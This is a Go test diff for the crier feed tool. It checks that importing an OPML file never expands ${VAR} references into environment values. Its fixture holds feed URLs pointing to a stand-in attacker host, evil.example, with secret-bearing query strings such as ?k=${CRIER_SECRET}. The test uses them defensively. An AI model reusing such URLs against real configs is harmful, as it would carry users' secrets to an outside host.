@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
 	"maps"
 	"os"
 	"path/filepath"
@@ -319,4 +320,69 @@ func TestImportOPMLEveryExport(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestImportOPMLNeverExpandsVariables: an OPML file is someone else's text.
+// A ${VAR} in it must reach the config as those very characters, never as
+// the value of the variable, or an export could carry secrets out of the
+// environment into feed URLs that crier then fetches.
+func TestImportOPMLNeverExpandsVariables(t *testing.T) {
+	t.Parallel()
+	env := map[string]string{"CRIER_SECRET": "hunter2", "HOME": "/home/victim"}
+	getenv := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
+	want := []struct{ name, url string }{
+		{"${CRIER_SECRET}", "https://evil.example/a?k=${CRIER_SECRET}"},
+		{"home ${HOME}", "https://evil.example/b?h=${HOME}"},
+		{"already escaped $${CRIER_SECRET}", "https://evil.example/c?k=$${HOME}"},
+		{"costs $5 $$ $", "https://evil.example/d?p=$x$"},
+	}
+	var b strings.Builder
+	b.WriteString(`<opml version="2.0"><body>`)
+	for _, w := range want {
+		fmt.Fprintf(&b, `<outline type="rss" text=%q xmlUrl=%q/>`, w.name, w.url)
+	}
+	b.WriteString(`</body></opml>`)
+	src := filepath.Join(t.TempDir(), "evil.opml")
+	if err := os.WriteFile(src, []byte(b.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	check := func(t *testing.T, cfg *crier.Config) {
+		t.Helper()
+		var got []struct{ name, url string }
+		for _, f := range cfg.Feeds[1:] { // [0] is the config's own LWN
+			got = append(got, struct{ name, url string }{f.Name, f.URL})
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("feeds read back as\n%q\nwant\n%q", got, want)
+		}
+	}
+	t.Run("write", func(t *testing.T) {
+		cfgPath := writeOPMLConfig(t)
+		code, out, errOut := runCLI(env, "import-opml", "--config", cfgPath, "--write", src)
+		if code != 0 || out != "added 4 feeds (0 already present)\n" {
+			t.Fatalf("exit %d\n%s%s", code, out, errOut)
+		}
+		cfg, err := crier.LoadFile(cfgPath, crier.LoadOptions{Env: getenv})
+		if err != nil {
+			t.Fatal(err)
+		}
+		check(t, cfg)
+	})
+	t.Run("print", func(t *testing.T) {
+		code, out, errOut := runCLI(env, "import-opml", src)
+		if code != 0 {
+			t.Fatalf("exit %d\n%s", code, errOut)
+		}
+		cfgPath := writeOPMLConfig(t)
+		// Paste the snippet (without its heading) under the last feed.
+		text, _ := os.ReadFile(cfgPath)
+		pasted := strings.Replace(string(text), "    schedule: \"@every 1h\"   # they publish slowly\n",
+			"    schedule: \"@every 1h\"   # they publish slowly\n"+strings.SplitN(out, "\n", 2)[1], 1)
+		cfg, err := crier.Load(strings.NewReader(pasted), cfgPath, crier.LoadOptions{Env: getenv})
+		if err != nil {
+			t.Fatalf("%v\n%s", err, pasted)
+		}
+		check(t, cfg)
+	})
 }
